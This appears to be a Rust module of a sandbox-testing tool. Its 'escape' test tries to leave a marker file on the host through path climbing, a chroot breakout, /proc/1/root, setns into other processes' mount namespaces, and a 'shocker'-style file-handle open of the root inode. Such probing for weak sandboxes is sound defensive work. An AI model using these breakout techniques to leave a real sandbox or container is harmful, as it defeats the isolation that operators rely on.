//! Out of the sandbox by every way at once, to leave a file on the host.

use super::files::{Handle, open_handle};
use crate::child::{fork, wait};
use crate::operation::{Answer, Arguments, Operation, Place, Stop, blocked, check};
use crate::scratch::Scratch;
use std::ffi::CString;
use std::fs::File;
use std::io::Write as _;
use std::os::fd::AsRawFd as _;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;

#[rustfmt::skip] // a table
pub(super) const OPERATIONS: &[Operation] = &[
    Operation { name: "escape", arguments: "PATH", about: "leaves a file at PATH, by `..`, chroot, /proc/1/root, namespaces of other processes, and a handle of the root directory", needs: "PATH is in a directory made for the test", place: Place::Itself, run: escape },
];

type Way = fn(&Path) -> Result<(), Stop>;

const WAYS: [(&str, Way); 6] = [
    ("by its name", |path| write(path)),
    ("by climbing", |path| write(&climbing(path))),
    ("by chroot", by_chroot),
    ("by /proc/1/root", |path| write(Path::new(&format!("/proc/1/root{}", path.display())))),
    ("by setns", by_namespace),
    ("by a handle", by_handle),
];

fn escape(arguments: &Arguments) -> Answer {
    let path = Path::new(arguments.text(0, "PATH")?);
    let (mut taken, mut walls) = (Vec::new(), Vec::new());
    for (name, way) in WAYS {
        // Each in a child of its own: some change what the others need.
        let (reading, mut writing) = std::io::pipe().map_err(blocked("pipe"))?;
        let child = fork(|| match way(path) {
            Ok(()) => 0,
            Err(Stop::Blocked(wall) | Stop::Inconclusive(wall)) => {
                let _ = writing.write_all(wall.as_bytes());
                1
            }
        })?;
        drop(writing);
        let wall = std::io::read_to_string(reading).unwrap_or_default();
        match wait(child) {
            0 => taken.push(name),
            status if libc::WIFSIGNALED(status) => walls.push(format!("{name}: {}", crate::child::ending(status))),
            _ => walls.push(format!("{name}: {wall}")),
        }
    }
    if taken.is_empty() { Err(Stop::Blocked(walls.join("; "))) } else { Ok(format!("wrote it {}", taken.join(", "))) }
}

fn write(path: &Path) -> Result<(), Stop> {
    std::fs::write(path, b"escaped\n").map_err(blocked(format!("create {}", path.display())))
}

fn climbing(path: &Path) -> std::path::PathBuf {
    format!("{}{}", "../".repeat(40), path.display().to_string().trim_start_matches('/')).into()
}

/// The oldest one: with a root below the working directory, `..` leads out.
fn by_chroot(path: &Path) -> Result<(), Stop> {
    let scratch = Scratch::new()?;
    let inner = CString::new(scratch.path().as_os_str().as_bytes()).map_err(|_| Stop::Inconclusive("NUL".into()))?;
    let here = File::open("/").map_err(blocked("open /"))?;
    // SAFETY: a terminated string; the change ends with this child.
    check("chroot", unsafe { libc::chroot(inner.as_ptr()) })?;
    // SAFETY: a live descriptor; terminated strings.
    unsafe {
        libc::fchdir(here.as_raw_fd());
        for _ in 0..40 {
            libc::chdir(c"..".as_ptr());
        }
        libc::chroot(c".".as_ptr());
    }
    let written = write(path);
    // The scratch directory has another name now, and is removed by its relative one.
    let _ = std::fs::remove_dir(scratch.path());
    written
}

fn by_namespace(path: &Path) -> Result<(), Stop> {
    let mut walls = Vec::new();
    let parent = std::os::unix::process::parent_id();
    let outer = std::fs::read_to_string(format!("/proc/{parent}/stat")).ok();
    let outer = outer.and_then(|stat| stat.rsplit_once(") ")?.1.split(' ').nth(1).map(str::to_owned));
    for pid in std::iter::once("1".to_owned()).chain(outer.filter(|pid| pid != "0" && pid != "1")) {
        let name = format!("/proc/{pid}/ns/mnt");
        let entered = File::open(&name).map_err(blocked(format!("open {name}"))).and_then(|file| {
            // SAFETY: a live descriptor; the change ends with this child.
            check(format!("setns({name})"), unsafe { libc::setns(file.as_raw_fd(), libc::CLONE_NEWNS) })
        });
        match entered.and_then(|_| write(path)) {
            Ok(()) => return Ok(()),
            Err(Stop::Blocked(wall) | Stop::Inconclusive(wall)) => walls.push(wall),
        }
    }
    Err(Stop::Blocked(walls.join("; ")))
}

/// The root directory of the file system that this program is on: inode 2, generation 0 on ext4, as in the exploit "shocker".
fn by_handle(path: &Path) -> Result<(), Stop> {
    let mut handle = Handle { bytes: 8, kind: 1, handle: [0; 128] };
    handle.handle[0] = 2;
    let root = open_handle(&mut handle, libc::O_PATH | libc::O_DIRECTORY)?;
    // SAFETY: a live descriptor; the change ends with this child.
    check("fchdir", unsafe { libc::fchdir(root.as_raw_fd()) })?;
    write(Path::new(path.display().to_string().trim_start_matches('/')))
}
